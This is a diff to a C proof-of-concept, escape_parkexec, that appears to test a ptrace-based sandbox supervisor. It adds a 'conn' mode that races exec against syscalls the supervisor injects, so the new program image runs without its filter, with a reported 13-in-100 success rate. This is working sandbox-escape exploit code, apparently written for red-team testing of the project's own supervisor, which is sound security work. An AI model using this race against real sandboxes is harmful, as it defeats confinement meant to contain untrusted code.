@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: ISC */
 /*
- * escape_parkexec MARK [TRIES] (attack park-exec, blind round 23b): in a
+ * escape_parkexec MARK [TRIES [conn]] (attacks park-exec and conn-exec,
+ * blind rounds 23b and 24): in a
  * child per try, the leader blocks in connect() to a full listener of
  * its own (the supervisor parks it and retries it later) while another
  * thread execs this program; the new image takes the leader's pid.  A
@@ -14,10 +15,16 @@
  * a call the supervisor injects at the old vDSO's `syscall` runs instead
  * of faulting: the retry's PTRACE_CONT reached the new image at its exec
  * stop, which then ran with no filter of its own.
+ * conn (attack conn-exec, round 24): the leader connects over and over
+ * to a listener with room (each connect remade by the supervisor, by
+ * calls injected in the leader) while the other thread execs the static
+ * image: the remake's PTRACE_SYSCALL resumed the new image from its exec
+ * stop (13 in 100 tries).
  */
 #include <elf.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -134,7 +141,7 @@ exec_soon(void *a)
 }
 
 static void
-one_try(uintptr_t delay)
+one_try(uintptr_t delay, bool conn)
 {
 	struct sockaddr_un sa = { .sun_family = AF_UNIX };
 	int l, c;
@@ -144,8 +151,20 @@ one_try(uintptr_t delay)
 	unlink(sa.sun_path);
 	if ((l = socket(AF_UNIX, SOCK_STREAM, 0)) == -1 ||
 	    bind(l, (struct sockaddr *)&sa, sizeof(sa)) == -1 ||
-	    listen(l, 0) == -1)
+	    listen(l, conn ? 4096 : 0) == -1)
 		_exit(2);
+	if (conn) {
+		pthread_create(&t, NULL, exec_soon, (void *)(delay | 1));
+		for (int i = 0; i < 100000; i++) {
+			c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
+			(void)connect(c, (struct sockaddr *)&sa, sizeof(sa));
+			close(c);
+			while (i % 64 == 63 && (c = accept4(l, NULL, NULL,
+			    SOCK_NONBLOCK)) >= 0)
+				close(c);
+		}
+		_exit(6);
+	}
 	/* the queue full: the next connect blocks */
 	for (int i = 0; i < 2; i++) {
 		c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
@@ -161,6 +180,7 @@ int
 main(int argc, char **argv)
 {
 	int tries = argc > 2 ? atoi(argv[2]) : 60, st;
+	bool conn = argc > 3 && strcmp(argv[3], "conn") == 0;
 	ssize_t n;
 
 	if (argc < 2)
@@ -176,9 +196,11 @@ main(int argc, char **argv)
 	for (int i = 0; i < tries; i++) {
 		pid_t p = fork();
 		/* the park's retries come at 1, 2, 4, 8 ms... */
-		if (p == 0)
+		if (p == 0 && conn)
+			one_try((uintptr_t)(500 + (i * 7919) % 19500) << 1, true);
+		else if (p == 0)
 			one_try((uintptr_t)(1000 + (i * 7919) % 5000) << 1 |
-			    (uintptr_t)(i % 3 != 0));
+			    (uintptr_t)(i % 3 != 0), false);
 		waitpid(p, &st, 0);
 		struct stat s;
 		if (stat(mark, &s) == 0) {
